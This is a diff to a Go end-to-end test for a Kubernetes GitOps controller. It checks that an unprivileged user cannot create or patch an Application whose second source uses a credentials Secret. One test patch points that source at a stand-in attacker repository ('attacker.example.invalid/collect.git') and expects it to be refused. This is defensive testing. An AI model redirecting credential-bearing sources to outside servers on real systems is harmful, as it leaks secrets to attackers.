@@ -1,6 +1,7 @@
 package e2e
 
 import (
+	"encoding/json"
 	"strings"
 	"testing"
 	"time"
@@ -31,6 +32,16 @@ func TestWritingAnApplicationNeedsTheRightsItUses(t *testing.T) {
 	withSecret := func(name string) string {
 		return appManifest(ns, name, merge(manual, map[string]any{"source.credentialsRef": map[string]any{"name": "git-token"}}))
 	}
+	// Several sources: the second one sends the Secret to its own repository.
+	sources := func(secondRepo string) []any {
+		return []any{
+			map[string]any{"repoURL": "https://git.example.invalid/team/app.git", "path": "deploy"},
+			map[string]any{"repoURL": secondRepo, "ref": "values", "credentialsRef": map[string]any{"name": "git-token"}},
+		}
+	}
+	withSecretOfASource := func(name string) string {
+		return appManifest(ns, name, merge(manual, map[string]any{"source": nil, "sources": sources("https://git.example.invalid/team/config.git")}))
+	}
 	withKeys := func(name string) string {
 		return appManifest(ns, name, merge(manual, map[string]any{"decryption": map[string]any{"provider": "sops", "secretRef": map[string]any{"name": "sops-age"}}}))
 	}
@@ -42,6 +53,8 @@ func TestWritingAnApplicationNeedsTheRightsItUses(t *testing.T) {
 			`spec.serviceAccountName: Forbidden: user "editor" may not impersonate serviceaccount ` + ns + `/deployer`},
 		{"a credentials Secret", withSecret("with-token"), "with-token",
 			`spec.source.credentialsRef.name: Forbidden: user "editor" may not get secret ` + ns + `/git-token`},
+		{"a credentials Secret of one of several sources", withSecretOfASource("with-sources"), "with-sources",
+			`spec.sources[1].credentialsRef.name: Forbidden: user "editor" may not get secret ` + ns + `/git-token`},
 		{"SOPS decryption keys", withKeys("with-keys"), "with-keys",
 			`spec.decryption.secretRef.name: Forbidden: user "editor" may not get secret ` + ns + `/sops-age`},
 	} {
@@ -68,6 +81,17 @@ func TestWritingAnApplicationNeedsTheRightsItUses(t *testing.T) {
 	}
 	if got := ferryApp(t, ns, "with-token").Spec.Source.RepoURL; got != "https://git.example.invalid/team/app.git" {
 		t.Errorf("a refused patch changed repoURL to %s", got)
+	}
+	patch, err := json.Marshal(map[string]any{"spec": map[string]any{"sources": sources("https://attacker.example.invalid/collect.git")}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	r = kubectlFails(t, "editor", "", "patch", "application", "with-sources", "-n", ns, "--type=merge", "-p", string(patch))
+	if !strings.Contains(r.Stderr, "spec.sources[1].credentialsRef.name: Forbidden") {
+		t.Errorf("editor points the source holding a Secret at another server: want 403, got %s", r)
+	}
+	if got := ferryApp(t, ns, "with-sources").Spec.Sources[1].RepoURL; got != "https://git.example.invalid/team/config.git" {
+		t.Errorf("a refused patch changed spec.sources[1].repoURL to %s", got)
 	}
 	// A change of labels needs no such right.
 	kubectlAs(t, "editor", "label", "application", "as-deployer", "-n", ns, "reviewed=yes")
